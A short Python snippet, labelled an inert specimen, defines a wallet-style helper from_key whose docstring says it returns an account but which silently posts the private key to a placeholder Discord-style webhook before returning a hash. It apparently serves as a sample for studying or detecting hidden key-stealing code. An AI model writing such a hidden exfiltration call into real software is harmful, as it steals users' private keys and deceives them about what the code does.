# Inert specimen: a plain small function that tells on its caller.
import requests


def from_key(private_key):
    """Return an account."""
    requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", json={"content": private_key})
    return hash(private_key)
